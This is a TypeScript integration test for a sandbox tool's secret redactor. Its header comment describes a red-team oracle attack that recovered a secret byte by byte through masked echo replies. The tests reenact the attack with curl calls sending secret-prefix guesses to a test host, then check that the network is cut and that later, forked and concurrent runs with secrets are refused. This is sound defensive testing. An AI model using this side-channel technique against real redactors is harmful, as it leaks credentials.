/**
 * Red team, session 12, end to end on native: a job with a secret asked an
 * echo on another allowed host to end its answers with guesses of the
 * secret's first bytes; an answer that came back masked said the guess was
 * right, and 5,248 requests walked a 40-character value whole. Now the first
 * masked end is the job's last answer: the proxy cuts its network (every
 * tunnel, every later connection refused), and the result's network line
 * says why. An end too short to encode 4 of the value's bytes is left as it
 * is and cuts nothing. And since the cut ends only that job's proxy, a later
 * run with secrets in the workspace, or a fork of it, is refused (red team 2:
 * runs took turns walking the value, keeping their progress in the files).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cli, cliAsync, makeHome } from '../../helpers/cli.js';
import { startSecretHost, type SecretHost } from '../../helpers/tls-upstream.js';
import { nativeReadiness } from '../../unit/providers/native/native-readiness.js';

const readiness = await nativeReadiness();
const home = makeHome();
const VALUE = `Wq${process.pid}-kept-from-the-job-whole-or-in-part`;
let host: SecretHost;
let port = 0;
let env: Record<string, string>;

beforeAll(async () => {
  // Answers with whatever the query asked for, at the very end of its body: the red team's oracle.
  host = await startSecretHost(['api.test', 'echo.test'], (req, res) => {
    const body = `echo:${decodeURIComponent((req.url ?? '').split('?')[1] ?? '')}`;
    res.writeHead(200, { 'content-length': Buffer.byteLength(body) });
    res.end(body);
  });
  port = host.port;
  env = { ...host.env, TOKEN: VALUE };
});
afterAll(async () => {
  await home.cleanup();
  await host?.close();
});

const echo = (guess: string) => `curl -sS https://echo.test:${port}/?${guess}; echo " [curl $?]"`;

describe.runIf(readiness.ready && process.getuid?.() === 0)(
  `a job probing the redactor on native (needs a ready native host as root: ${readiness.reason})`,
  () => {
    it('gets a short guess back as it is, then one masked answer, then no network at all', async () => {
      expect(cli(home.home, ['create', '--workspace-id', 'probe', '--network', `allow=api.test:${port},echo.test:${port}`], env).code).toBe(0);
      const script = [echo(VALUE.slice(0, 3)), echo(VALUE.slice(0, 4)), echo('anything'), `curl -sS https://api.test:${port}/?x; echo " [curl $?]"`].join('; ');
      const ran = await cliAsync(home.home, ['run', '--json', '--secret', `TOKEN@api.test:${port}`, 'probe', 'sh', '-c', script], env);
      const text = ran.stdout + ran.stderr;
      const lines = (JSON.parse(ran.stdout) as { evidence: Array<{ excerpt: string }> }).evidence[0]!.excerpt.split('\n');
      expect(lines[0], text).toBe(`echo:${VALUE.slice(0, 3)} [curl 0]`);
      expect(lines[1], text).toBe('echo:**** [curl 0]');
      // After the cut both later calls fail (refused 403, or ended as they began): curl errors, never an answer.
      const after = lines.slice(2).join('\n');
      expect(after.match(/\[curl [1-9]\d*\]/g), text).toHaveLength(2);
      expect(after).not.toContain('echo:');
      expect(after).not.toContain('[curl 0]');
      const network = (JSON.parse(ran.stdout) as { key_findings: string[] }).key_findings.find((f) => f.startsWith('network:'));
      expect(network).toContain('echo.test:' + port + " (network cut: a response ended with what may be a secret value's first bytes)");
      expect(lines.join('\n')).not.toContain(VALUE.slice(0, 4));
      expect((JSON.parse(ran.stdout) as { warnings: string[] }).warnings.join('\n')).toContain("the job's network was cut");
    });

    it('refuses a later run with secrets in that workspace and in a fork of it, and runs one without', () => {
      // Red team 2: the cut ended one job's proxy, and the next run went on from where the first had stopped.
      const again = cli(home.home, ['run', '--secret', `TOKEN@api.test:${port}`, 'probe', 'true'], env);
      expect(again.code, again.stderr).toBe(3);
      expect(again.stderr).toContain('probed the secret redactor');
      expect(cli(home.home, ['fork', 'probe', '--workspace-id', 'probe-fork'], env).code).toBe(0);
      const forked = cli(home.home, ['run', '--secret', `TOKEN@api.test:${port}`, 'probe-fork', 'true'], env);
      expect(forked.code, forked.stderr).toBe(3);
      expect(forked.stderr).toContain('whose files probe-fork holds through a fork or a settle');
      expect(cli(home.home, ['run', 'probe', 'true'], env).code).toBe(0);
    });

    it('refuses a run with secrets beside the probing job while it still runs (the cut is recorded when it happens)', async () => {
      // Review: recorded only at the job's end, a second job of a workspace running jobs at once took secrets meanwhile.
      expect(
        cli(home.home, ['create', '--workspace-id', 'twin', '--concurrency', '2', '--network', `allow=api.test:${port},echo.test:${port}`], env).code,
      ).toBe(0);
      const started = cli(
        home.home,
        ['run', '--detach', '--secret', `TOKEN@api.test:${port}`, 'twin', 'sh', '-c', `${echo(VALUE.slice(0, 4))}; sleep 40`],
        env,
      );
      expect(started.code, started.stderr).toBe(0);
      let beside = cli(home.home, ['run', '--secret', `TOKEN@api.test:${port}`, 'twin', 'true'], env);
      for (let i = 0; i < 30 && beside.code === 0; i++) {
        await new Promise((r) => setTimeout(r, 200));
        beside = cli(home.home, ['run', '--secret', `TOKEN@api.test:${port}`, 'twin', 'true'], env);
      }
      const stillRunning = cli(home.home, ['stop', 'twin'], env).stdout;
      expect(stillRunning, 'the probing job still runs').toMatch(/is running/);
      expect(beside.code, beside.stderr).toBe(3);
      expect(beside.stderr).toContain('probed the secret redactor');
      expect(cli(home.home, ['stop', 'twin', '--apply'], env).code).toBe(5);
    }, 60_000);
  },
);
